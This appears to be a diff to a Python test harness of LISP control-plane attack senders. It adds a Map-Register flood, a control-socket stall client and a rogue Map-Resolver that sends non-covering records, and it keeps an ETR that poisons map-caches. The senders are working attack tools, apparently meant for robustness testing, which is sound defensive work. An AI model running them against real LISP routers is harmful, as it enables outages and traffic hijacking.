@@ -17,7 +17,18 @@
                                    answers the first ECM forwarded to it
                                    with 0.0.0.0/0, VICTIM and OWN, all to
                                    ADDR (the cache hijack)
+  reg-flood MS PREFIX RLOC KEY N   N authenticated Map-Registers of PREFIX
+                                   (the attacker holds the site's key), each
+                                   with another xTR-ID and Record TTL
+                                   0xffffffff with the T bit (seconds)
+  ctl-stall SOCKET SECONDS         a control client that sends requests and
+                                   never reads its answers
+  evil-mr ADDR SECONDS             a Map-Resolver that answers every ECM
+                                   Map-Request with a record that does not
+                                   cover the EID asked for (199.32.0.0/11)
 Each sender prints JSON with what it sent (messages, payload octets)."""
+import hashlib
+import hmac
 import json
 import random
 import socket
@@ -125,13 +136,8 @@ def decap(args):
     print(json.dumps({'messages': 1, 'octets': len(lisp)}))
 
 
-def evil_etr(args):
-    addr, own, victim = args
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.bind((addr, 4342))
-    s.settimeout(20)
-    data, frm = s.recvfrom(2048)
+def ecm_request(data):
+    """the inner Map-Request of an ECM: (nonce, ITR-RLOC, its port)"""
     ip = data[4:]
     ihl = (ip[0] & 15) * 4
     sport = struct.unpack('!H', ip[ihl:ihl + 2])[0]
@@ -140,7 +146,17 @@ def evil_etr(args):
     off = 12
     afi = struct.unpack('!H', mreq[off:off + 2])[0]
     off += 2 + {0: 0, 1: 4, 2: 16}[afi]
-    itr = socket.inet_ntoa(mreq[off + 2:off + 6])
+    return nonce, socket.inet_ntoa(mreq[off + 2:off + 6]), sport
+
+
+def evil_etr(args):
+    addr, own, victim = args
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((addr, 4342))
+    s.settimeout(20)
+    data, frm = s.recvfrom(2048)
+    nonce, itr, sport = ecm_request(data)
     recs = [('0.0.0.0', 0), tuple(victim.split('/')), tuple(own.split('/'))]
     rep = struct.pack('!IQ', (2 << 28) | len(recs), nonce)
     for net, mlen in recs:
@@ -150,7 +166,73 @@ def evil_etr(args):
     print(json.dumps({'answered': itr, 'records': len(recs)}), flush=True)
 
 
+def reg_flood(args):
+    ms, prefix, rloc, key, n = args[0], args[1], args[2], args[3], int(args[4])
+    net, mlen = prefix.split('/')
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((rloc, 0))
+    sent = octets = 0
+    for i in range(n):
+        flags = 0x02000000 | 0x800  # I, T
+        rec = struct.pack('!IBBHHH', 0xffffffff, 1, int(mlen), 0x1000, 0, 1)
+        rec += socket.inet_aton(net)
+        rec += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(rloc)
+        hdr = struct.pack('!IQBBH', (3 << 28) | flags | 1, random.getrandbits(64), 0, 2, 32)
+        trailer = struct.pack('!QQQ', 0x5eed, i, i)  # xTR-ID (16), Site-ID
+        msg = bytearray(hdr + b'\0' * 32 + rec + trailer)
+        msg[16:48] = hmac.new(key.encode(), bytes(msg), hashlib.sha256).digest()
+        s.sendto(bytes(msg), (ms, 4342))
+        sent += 1
+        octets += len(msg)
+        if i % 200 == 199:
+            time.sleep(0.01)   # a steady flood, not a socket overrun
+    print(json.dumps({'messages': sent, 'octets': octets}))
+
+
+def ctl_stall(args):
+    path, secs = args[0], float(args[1])
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(path)
+    s.setblocking(False)
+    req = (json.dumps({'v': 1, 'cmd': 'show site', 'args': {'detail': True}}) + '\n').encode()
+    written = 0
+    end = time.time() + secs
+    while time.time() < end:
+        try:
+            written += s.send(req)
+        except BlockingIOError:
+            time.sleep(0.01)   # the daemon stopped reading us
+        except (BrokenPipeError, ConnectionResetError):
+            break
+    print(json.dumps({'written': written}))
+    s.close()
+
+
+def evil_mr(args):
+    addr, secs = args[0], float(args[1])
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((addr, 4342))
+    s.settimeout(0.2)
+    n = 0
+    end = time.time() + secs
+    while time.time() < end:
+        try:
+            data, frm = s.recvfrom(2048)
+        except socket.timeout:
+            continue
+        if len(data) < 40 or data[0] >> 4 != 8:
+            continue
+        n += 1
+        nonce, itr, sport = ecm_request(data)
+        rep = struct.pack('!IQ', (2 << 28) | 1, nonce)
+        rep += struct.pack('!IBBHHH', 1440, 1, 11, 0x1000, 0, 1) + socket.inet_aton('199.32.0.0')
+        rep += struct.pack('!BBBBHH', 1, 100, 255, 0, 0x0005, 1) + socket.inet_aton(addr)
+        s.sendto(rep, (itr, sport))
+    print(json.dumps({'requests': n}))
+
+
 if __name__ == '__main__':
     cmd, rest = sys.argv[1], sys.argv[2:]
     {'sink': sink, 'mr-flood': mr_flood, 'probe-flood': probe_flood,
-     'decap': decap, 'evil-etr': evil_etr}[cmd](rest)
+     'decap': decap, 'evil-etr': evil_etr, 'reg-flood': reg_flood,
+     'ctl-stall': ctl_stall, 'evil-mr': evil_mr}[cmd](rest)
